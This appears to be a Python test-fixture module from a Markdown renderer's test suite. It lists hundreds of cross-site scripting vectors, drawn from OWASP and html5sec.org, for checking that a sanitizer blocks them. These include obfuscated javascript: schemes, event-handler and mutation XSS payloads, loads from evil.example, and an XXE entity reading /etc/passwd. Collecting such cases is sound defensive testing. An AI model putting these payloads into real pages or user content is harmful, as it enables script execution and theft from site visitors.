"""Markdown that would run a script, load or send something, or take the page over, if anything of it passed as it stands.

Written after the vectors of the public collections (OWASP's filter evasion sheet, html5sec.org, the cases of sanitizers).
`hit()` stands for the harm; a case is one section of a narrative.
"""

SCHEMES = [
    "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "javascript&colon;hit()", "javascript&#58;hit()",
    "javascript&#x3A;hit()", "javascript&#0000058hit()", "&#106;avascript:hit()", "&#x6A;&#x61;vascript:hit()",
    "java&#9;script:hit()", "java&Tab;script:hit()", "java&#10;script:hit()", "java&NewLine;script:hit()",
    "java&#13;script:hit()", "&#32;javascript:hit()", "&#160;javascript:hit()",
    "\\javascript:hit()", "java\\script:hit()", "javascript\\:hit()", "javascript://%0ahit()",
    "javascript://x.y/%0Ahit()", "javascript:/*--*/hit()", "jav%61script:hit()", "javascript%3Ahit()",
    "feed:javascript:hit()", "view-source:javascript:hit()", "jar:javascript:hit()", "x-javascript:hit()",
    "vbscript:msgbox(1)", "VBScript:hit()", "livescript:hit()", "mocha:hit()", "behavior:url(x)",
    "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KCk+",
    "data:application/xhtml+xml,<x/>", "DATA:text/html,x", "blob:null/1", "filesystem:x", "file:///etc/passwd",
    "about:blank", "chrome://version", "ms-its:x", "mhtml:x", "res://x", "intent://x", "ftp://x.y/", "ws://x.y",
]

ADDRESSES = [template.format(scheme) for scheme in SCHEMES for template in ("[a](<{}>)", "![a](<{}>)")] + [
    "[a](javascript:hit())", "![a](javascript:hit())", "<javascript:hit()>", "<JAVASCRIPT:hit()>", "<data:text/html,x>",
    "<vbscript:hit()>", "[a][r]\n\n[r]: javascript:hit()", "[r]\n\n[r]: <java&#x0d;script:hit()> 'x'",
    "![a][r]\n\n[r]: data:text/html,x", "[![a](b.png)](javascript:hit())", "[a](javascript:hit() \"javascript:hit()\")",
    "[a](java\nscript:hit())", "[a](<java\tscript:hit()>)", "[a](//evil.example/x.js)", "![a](//evil.example/x.png)",
    "![a](https://evil.example/x.svg)", "![a](\\\\\\\\evil.example\\\\x.png)", "![a](/\\\\evil.example/x.png)",
]

TITLES = [
    "[a](b \"\\\" onmouseover=\\\"hit()\")", "[a](b 'x\" onclick=\"hit()')", "[a](b (x\" onfocus=\"hit()\" autofocus))",
    "[a](<b\" onclick=\"hit()>)", "[a](b&quot;onclick=hit())", "![\" onerror=\"hit()](x)", "![&quot; onerror=&quot;hit()](x)",
    "![a](x \"\\\" onerror=\\\"hit()\")", "![a](x\"onerror=\"hit())", "![`\" onerror=hit() `](x)", "![a' onerror='hit()](x)",
    "[r]\n\n[r]: b '\" onclick=\"hit()'", "``` x\" onclick=\"hit()\nx\n```", "```x\"><script>hit()</script>\nx\n```",
    "~~~ &quot;><img src=x onerror=hit()>\nx\n~~~", "Table: \" onclick=\"hit()\n\n| a |\n|-|", "| a\" onclick=\"hit() |\n|-|",
]

MARKUP = [
    "<script>hit()</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "a <script>hit()</script> b",
    "<script\n>hit()</script\n>", "<scr<script>ipt>hit()</script>", "<script/x>hit()</script>", "<<script>hit();//<</script>",
    "<script type=module>hit()</script>", "<script>/*\n\n*/hit()</script>", "</p><script>hit()</script>",
    "<img src=x onerror=hit()>", "a <img src=x onerror=hit()> b", "<img src=x onerror=&#104;it()>", "<img/src/onerror=hit()>",
    "<IMG \"\"\"><SCRIPT>hit()</SCRIPT>\">", "<img src=`x` onerror=hit()>", "<image src=x onerror=hit()>",
    "<img srcset=x onerror=hit()>", "<picture><source srcset=x><img onerror=hit()></picture>", "<img dynsrc=javascript:hit()>",
    "<svg/onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><script href=data:,hit() /></svg>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:hit() /></svg>", "<svg><use href=data:image/svg+xml,x#y></svg>",
    "<svg><foreignObject><iframe onload=hit()></iframe></foreignObject></svg>", "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><a xlink:href=javascript:hit()>x</a></math>", "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>body{background:url(javascript:hit())}</style>",
    "<p style=\"background:url(https://evil.example/)\">x</p>", "<div style=width:expression(hit())>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=preload as=script href=x onload=hit()>",
    "<link rel=import href=x>", "<base href=https://evil.example/>", "<base href=javascript:/a/-hit()//>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta name=referrer content=unsafe-url>",
    "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe onload=hit()></iframe>", "<frameset onload=hit()><frame src=x></frameset>", "<object data=javascript:hit()></object>",
    "<object data=data:text/html,x type=text/html></object>", "<embed src=javascript:hit()>", "<applet code=x></applet>",
    "<portal src=x onload=hit()></portal>", "<form action=https://evil.example/><input name=x></form>",
    "<form action=javascript:hit()><button>x</button></form>", "<button formaction=javascript:hit()>x</button>",
    "<form id=x></form><button form=x formaction=javascript:hit()>x</button>", "<input onfocus=hit() autofocus>",
    "<input type=image src=x onerror=hit()>", "<isindex type=image src=x onerror=hit()>", "<select onfocus=hit() autofocus></select>",
    "<textarea onfocus=hit() autofocus></textarea>", "<keygen autofocus onfocus=hit()>", "<video src=x onerror=hit()></video>",
    "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()></audio>", "<video poster=javascript:hit()></video>",
    "<track src=x onerror=hit()>", "<details open ontoggle=hit()>x</details>", "<dialog open onclose=hit()>x</dialog>",
    "<marquee onstart=hit()>x</marquee>", "<bgsound src=javascript:hit()>", "<body onload=hit()>", "<body background=javascript:hit()>",
    "<html onmouseover=hit()>", "<div onclick=hit()>x</div>", "<div\nonclick=hit()>x</div>", "<x onclick=hit()>x</x>",
    "<a href=javascript:hit()>x</a>", "<a href=\"java\nscript:hit()\">x</a>", "<a href=x ping=https://evil.example/>x</a>",
    "<a href=x target=_blank>x</a>", "<div onpointerover=hit() style=position:fixed;inset:0>x</div>", "<x tabindex=1 onfocus=hit() autofocus>",
    "<p onanimationstart=hit() style=animation:x>x</p>", "<div popover onbeforetoggle=hit()>x</div>",
    "<template><script>hit()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\"></noscript>",
    "<table background=javascript:hit()><tr><td>x</td></tr></table>", "<xml id=x><x><![CDATA[<img src=x onerror=hit()>]]></x></xml>",
    "<!--[if IE]><script>hit()</script><![endif]-->", "<!-- --> <script>hit()</script>", "<!--> <script>hit()</script> -->",
    "<!---> <img src=x onerror=hit()> -->", "<!-- --!> <img src=x onerror=hit()>", "a <!--> <img src=x onerror=hit()> --> b",
    "<?xml-stylesheet href=x?><script>hit()</script>", "<?php x ?><script>hit()</script>", "<!DOCTYPE x><script>hit()</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "<![CDATA[x]]><script>hit()</script>", "<!--insert 0-->", "a <!--insert 0--> b",
]

MUTATION = [
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>", "<xmp><img src=x onerror=hit()></xmp>", "<plaintext><script>hit()</script>",
    "<noembed><img src=x onerror=hit()></noembed>", "<noframes><img src=x onerror=hit()></noframes>",
    "<svg></p><style><a id=\"</style><img src=x onerror=hit()>\">", "<math></p><style><!--</style><img src=x onerror=hit()>-->",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=hit() src>\">",
    "<title><img src=x onerror=hit()></title>", "<textarea></textarea><script>hit()</script>", "</textarea><script>hit()</script>",
    "</title><script>hit()</script>", "</main></body></html><script>hit()</script>", "--><script>hit()</script>",
    "]]><script>hit()</script>", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;", "\\<script>hit()\\</script>", "`<script>hit()</script>`", "    <script>hit()</script>",
    "<a<script>hit()</script>", "<img src=\"x`<script>hit()</script>\"`>", "<b><script>hit()</script></b>",
    "*<script>*hit()*</script>*", "<scr\n\nipt>hit()</scr\n\nipt>", "\u003cscript\u003ehit()", "＜script＞hit()＜/script＞",
]

PLACES = [
    "| <script>hit()</script> | [a](javascript:hit()) |\n|-|-|\n| <b onclick=hit()> | ![a](data:x) |", "> <img src=x onerror=hit()>",
    "- <script>\n  hit()\n  </script>", "1. <svg onload=hit()>", "### <img src=x onerror=hit()>", "<script>hit()</script>\n===",
    "Table: <img src=x onerror=hit()>\n\n| a |\n|-|\n| b |", "| `|<script>hit()</script>` |\n|-|", "**[a](javascript:hit())**",
    "[<img src=x onerror=hit()>](b)", "![<script>hit()</script>](b)", "<https://x.y/\"onmouseover=\"hit()>", "<a@b.c\"onclick=hit()>",
    "- [ ] <input onfocus=hit() autofocus>", "a  \n<script>hit()</script>", "[^1]\n\n[^1]: <script>hit()</script>",
    "### body", "### location", "### __proto__", "### constructor", "### getElementById", "### cookie", "### \" onclick=\"hit()",
    "### main", "### discloseSearch",
]

EVERY_CASE = ADDRESSES + TITLES + MARKUP + MUTATION + PLACES
# A comment keeps a site from being built (C614) and comes to no page; how one is rendered, ForeignTests hold.
COMMENTS = [case for case in EVERY_CASE if "<!--" in case]
CASES = [case for case in EVERY_CASE if case not in COMMENTS]

# What the content may not even hold, because nobody sees it.
UNSEEN = [f"[a]({scheme}:hit())" for scheme in (
    "&#1;javascript", "&#14;javascript", "&#65279;javascript", "&#8203;javascript", "java&#173;script", "java\u200bscript", "\u202ejavascript")]

# What may stand in any field: the same harm without Markdown around it.
VALUES = [
    "<script>hit()</script>", "\"><img src=x onerror=hit()>", "'-hit()-'", "</script><script>hit()</script>", "<svg onload=hit()>",
    "[a](javascript:hit())", "![a](data:x)", "{{#list}}{{{name}}}", "<!--insert 0-->", "`</code><script>hit()</script>`",
    "| a | b |", "\\\"});hit();//", "${hit()}", "&lt;script&gt;hit()", "]]><script>hit()</script>", "*/hit()/*",
]
